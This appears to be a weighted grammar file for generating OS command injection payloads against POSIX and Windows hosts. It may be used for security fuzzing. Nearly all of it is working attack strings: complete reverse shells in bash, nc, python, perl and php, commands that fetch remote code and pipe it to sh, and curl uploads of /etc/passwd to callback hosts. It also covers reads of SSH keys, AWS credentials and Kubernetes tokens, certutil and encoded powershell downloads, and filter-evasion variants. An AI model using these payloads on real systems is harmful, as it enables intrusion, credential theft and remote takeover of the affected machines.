# OS command injection: separators, substitutions, blind (time, out-of-band),
# reverse shells, and the shell-level evasions ($IFS, quotes, globbing,
# brace expansion, encoded commands), for POSIX shells and Windows.

technique = [5] "chained" | [3] "substitution" | [2] "blind_time" | [2] "out_of_band" | [1] "reverse_shell"
	| [2] "ifs_evasion" | [2] "quote_evasion" | [1] "glob_evasion" | [1] "encoded_command"
	| [1] "brace_expansion" | [2] "windows" ;
place = [6] "param" | [3] "query" | [2] "body" | [1] "header" | [1] "cookie" ;
target = [4] "host" | [3] "file" | [2] "text" | [1] "any" ;
encode = [6] "none" | [4] "raw" | [3] "pct" | [1] "double" | [2] "mixed" | [1] "unicode"
	| [1] "full" ;
param = "host" | "ip" | "cmd" | "exec" | "ping" | "file" | "filename" | "domain" | "target"
	| "path" | "dir" | "query" | "daemon" | "upload" | "log" | "email" ;
header = "User-Agent" | "Referer" | "X-Forwarded-For" | "X-Api-Version" ;
cookie = "lang" | "debug" | "theme" ;

lead = [3] "" | "127.0.0.1" | "localhost" | @word ".txt" | "8.8.8.8" | @int | "x" | @word ;
sep = [4] ";" | [3] "|" | [3] "&&" | "||" | "&" | "\n" | "\r\n" | "`" ;
end = [4] "" | ";" | " #" | "&" | " ||" | "|" | "\n" | "'" | "\"" ;
q = [3] "" | "'" | "\"" ;
ws = [6] " " | "\t" | "${IFS}" | "$IFS$9" | "<" ;
cmd = [3] read_cmd | recon_cmd | net_cmd ;
read_cmd = "cat" ws file | "head" ws "-n" ws "5" ws file | "tail" ws file | "more" ws file
	| "less" ws file | "nl" ws file | "tac" ws file | "od" ws "-c" ws file | "base64" ws file ;
recon_cmd = "id" | "whoami" | "uname" ws "-a" | "ls" ws "-la" | "pwd" | "hostname" | "env"
	| "ps" ws "aux" | "ifconfig" | "ip" ws "a" | "netstat" ws "-an" | "cat" ws "/proc/version"
	| "echo" ws @alnum | "printenv" | "getent" ws "passwd" | "find" ws "/" ws "-perm" ws "-4000" ;
net_cmd = "curl" ws "http://" oob_host "/" @word | "wget" ws "-qO-" ws "http://" oob_host "/x" ws "|" ws "sh"
	| "nslookup" ws oob_host | "ping" ws "-c" ws @int(1,10) ws oob_host | "dig" ws oob_host
	| "curl" ws "-d" ws "@/etc/passwd" ws "http://" oob_host | "busybox" ws "wget" ws "http://" oob_host "/b" ;
file = "/etc/passwd" | "/etc/shadow" | "/etc/hosts" | "/proc/self/environ" | "~/.ssh/id_rsa"
	| "/var/run/secrets/kubernetes.io/serviceaccount/token" | "/app/.env" | "/root/.aws/credentials"
	| "/etc/issue" | "config.yaml" ;
oob_host = @word ".oast.me" | @word ".burpcollaborator.net" | @word ".interact.sh" | @ip4 | @word ".ngrok.io" ;
ip_port = @ip4 ws @int(1024,65535) ;

chained = lead q sep ws? cmd end | lead sep cmd | lead q ";" cmd ";" q | lead " | " cmd
	| lead "&&" cmd "&&" | lead "\n" cmd "\n" ;
substitution = lead "$(" cmd ")" | lead "`" cmd "`" | q "$(" cmd ")" q | "$(" cmd ")"
	| lead ";echo" ws "$(" cmd ")" | lead "|" "echo" ws "`" cmd "`" ;
blind_time = lead sep "sleep" ws @int(2,20) end | lead sep "ping" ws "-c" ws @int(5,30) ws "127.0.0.1" end
	| lead "$(sleep" ws @int(2,20) ")" | lead "`sleep" ws @int(2,20) "`" | lead "|" "timeout" ws @int(2,9) ws "yes" end
	| lead "&" "ping" ws "-n" ws @int(5,30) ws "127.0.0.1" "&" ;
out_of_band = lead sep net_cmd end | lead "$(" net_cmd ")" | lead "`" net_cmd "`"
	| lead sep "nslookup" ws "`whoami`." oob_host end | lead sep "curl" ws oob_host "/$(id|base64)" end ;
reverse_shell = lead sep "bash" ws "-c" ws "'bash -i >& /dev/tcp/" @ip4 "/" @int(1024,65535) " 0>&1'" end
	| lead sep "nc" ws "-e" ws "/bin/sh" ws ip_port end
	| lead sep "python3" ws "-c" ws "'import socket,os,pty;s=socket.socket();s.connect((\"" @ip4 "\"," @int(1024,65535) "));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'" end
	| lead sep "rm" ws "/tmp/f;mkfifo" ws "/tmp/f;cat" ws "/tmp/f|sh" ws "-i" ws "2>&1|nc" ws ip_port ws ">/tmp/f" end
	| lead sep "perl" ws "-e" ws "'use Socket;$i=\"" @ip4 "\";$p=" @int(1024,65535) ";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'" end
	| lead sep "php" ws "-r" ws "'$sock=fsockopen(\"" @ip4 "\"," @int(1024,65535) ");exec(\"/bin/sh -i <&3 >&3 2>&3\");'" end ;
ifs_evasion = lead sep "cat${IFS}/etc/passwd" end | lead sep "{cat,/etc/passwd}" end
	| lead sep "cat$IFS$9/etc/passwd" end | lead sep "X=$'cat\\x20/etc/passwd'&&$X" end
	| lead sep "IFS=,;`cat<<<uname,-a`" end | lead sep "cat</etc/passwd" end | lead sep "ls${IFS}-la" end ;
quote_evasion = lead sep "c'a't" ws "/e't'c/pa's'swd" end | lead sep "w\"h\"o\"am\"i" end
	| lead sep "c\\at" ws "/et\\c/pas\\swd" end | lead sep "who$@ami" end | lead sep "i''d" end
	| lead sep "/bin/c''at" ws "/etc/pass''wd" end | lead sep "wh$()oami" end | lead sep "u$(echo)name -a" end ;
glob_evasion = lead sep "/???/c?t" ws "/???/p??s??" end | lead sep "/bin/ca*" ws "/etc/pa*wd" end
	| lead sep "/???/??t" ws "/???/??ss??" end | lead sep "/usr/bin/w?oami" end
	| lead sep "cat" ws "/e[t]c/pass[w]d" end ;
encoded_command = lead sep "echo" ws b64cmd "|base64" ws "-d|sh" end
	| lead sep "echo" ws "-e" ws "'\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'|sh" end
	| lead sep "$(printf" ws "'\\x69\\x64')" end | lead sep "xxd" ws "-r" ws "-p<<<" @hex(8,16) "|sh" end
	| lead sep "$(rev<<<'imaohw')" end | lead "|" "sh" ws "-c" ws "\"$(echo" ws b64cmd "|base64 -d)\"" ;
b64cmd = "Y2F0IC9ldGMvcGFzc3dk" | "aWQ=" | "d2hvYW1p" | "dW5hbWUgLWE=" | "bHMgLWxh" ;
brace_expansion = lead sep "{ls,-la,/}" end | lead sep "{cat,/etc/passwd}" end | lead sep "{wget,http://" oob_host "/x}" end
	| lead sep "{nc,-e,/bin/sh," @ip4 "," @int(1024,65535) "}" end ;
windows = lead "&" win_cmd "&" | lead "|" win_cmd | lead "&&" win_cmd | lead "\r\n" win_cmd
	| lead "|" "powershell" ws "-enc" ws "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" end
	| lead "&" "cmd" ws "/c" ws win_cmd ;
win_cmd = "type C:\\Windows\\win.ini" | "dir C:\\" | "whoami /all" | "ipconfig /all" | "net user"
	| "ping -n " @int(5,30) " 127.0.0.1" | "certutil -urlcache -split -f http://" oob_host "/x.exe"
	| "powershell -c \"iwr http://" oob_host "\"" | "set" | "systeminfo" | "tasklist" | "ver" ;
